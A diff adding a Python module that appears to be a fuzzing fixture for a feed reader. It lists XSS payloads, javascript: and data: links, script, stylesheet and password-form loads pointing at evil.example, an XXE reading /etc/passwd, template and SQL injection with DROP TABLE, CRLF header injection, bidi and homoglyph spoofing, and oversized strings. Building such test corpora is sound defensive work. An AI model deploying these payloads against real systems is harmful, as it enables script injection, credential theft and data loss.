@@ -1,0 +1,118 @@
+"""What a feed could hold to act on a reader, or to mislead one: over a hundred texts, each with its way."""
+
+_CALL = "alert(1)"
+_HANDLERS = (
+    *(
+        "onabort",
+        "onanimationstart",
+        "onauxclick",
+        "onblur",
+        "oncanplay",
+        "onclick",
+        "oncopy",
+        "ondrag",
+        "onerror",
+    ),
+    *("onfocus", "onhashchange", "oninput", "onkeydown", "onload", "onmouseover", "onpageshow", "onpaste"),
+    *("onpointerdown", "onresize", "onscroll", "onsubmit", "ontoggle", "ontransitionend", "onwheel"),
+)
+_ELEMENTS = (
+    *(
+        "script",
+        "style",
+        "iframe",
+        "object",
+        "embed",
+        "applet",
+        "form",
+        "input",
+        "button",
+        "textarea",
+        "select",
+    ),
+    *("link", "meta", "base", "svg", "math", "template", "video", "audio", "canvas", "frameset", "marquee"),
+    *("noscript", "plaintext", "xmp", "portal"),
+)
+_SCHEMES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "javascript&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:image/svg+xml,<svg onload=alert(1)>",
+    "file:///etc/passwd",
+    "blob:https://x.example/1",
+    "view-source:javascript:alert(1)",
+    "//evil.example/x",
+    "feed:javascript:alert(1)",
+)
+_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+
+PAYLOADS: tuple[str, ...] = (
+    *(f"<img src=x {handler}={_CALL}>" for handler in _HANDLERS),
+    *(f"<{name} src=//evil.example>{_CALL}</{name}>" for name in _ELEMENTS),
+    *(f'<a href="{scheme}">read on</a>' for scheme in _SCHEMES),
+    *(f"Truce signed{turn} by nobody" for turn in _BIDI),
+    # Out of a quoted attribute, out of an element, out of a comment, out of CDATA, out of a script.
+    f'" autofocus onfocus={_CALL} x="',
+    f"' autofocus onfocus={_CALL} x='",
+    f"`onfocus={_CALL}`",
+    f"</title><script>{_CALL}</script>",
+    f"</textarea><script>{_CALL}</script>",
+    f"</style><script>{_CALL}</script>",
+    f"--><script>{_CALL}</script><!--",
+    f"]]><script>{_CALL}</script><![CDATA[",
+    f"</script><script>{_CALL}</script>",
+    f"</mark></p></article><script>{_CALL}</script>",
+    # Escaped once, twice, by numbers, in other alphabets.
+    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
+    f"&amp;lt;script&amp;gt;{_CALL}&amp;lt;/script&amp;gt;",
+    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
+    f"&#x3c;script&#x3e;{_CALL}",
+    f"\\u003cscript\\u003e{_CALL}",
+    f"%3Cscript%3E{_CALL}%3C/script%3E",
+    f"＜script＞{_CALL}＜/script＞",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    # Broken on purpose: parsers mend these in their own ways.
+    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
+    f"<SCRIPT/XSS SRC=//evil.example></SCRIPT>{_CALL}",
+    f"<<script>{_CALL}//<</script>",
+    f"<script\x00>{_CALL}</script>",
+    f"<img/src/onerror={_CALL}//",
+    f"<svg><animate onbegin={_CALL} attributeName=x>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{_CALL}</script></svg>#x'/>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
+    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
+    f"<details open ontoggle={_CALL}>x</details>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';*{display:none}</style>",
+    "<div style='position:fixed;inset:0;background:url(//evil.example)'>Log in again</div>",
+    "<form action=//evil.example><input name=password>",
+    # Templates, logs, headers, other languages.
+    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
+    "${7*7}#{7*7}<%= 7*7 %>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
+    "<?php echo 1; ?>",
+    "line\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
+    "id: 9-9\ndata: {}\n\nevent: gone\ndata: x\n\n",
+    '=HYPERLINK("//evil.example","open")',
+    "' OR 1=1; DROP TABLE reports --",
+    # Not to be seen, or not what is seen.
+    "\ufeffBreaking\u200b\u2060\u00ad news",
+    "Off\x08\x08\x08On \x1b[31mred\x1b[0m \x07",
+    "\ufffe\uffff\x0b\x0c\x7f\x85",
+    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 50,
+    "hid\U000e0041\U000e0042den",
+    "paypaӏ.com: аll сlеаr",
+    "word " * 200_000,
+    "<b>" * 5_000,
+    "\u2028\u2029",
+)
+
+UNSEEN = set(_BIDI) | set("\u200b\u2060\u00ad\ufeff\x00\x07\x08\x0b\x0c\x1b\x7f\ufffe\uffff\U000e0041")
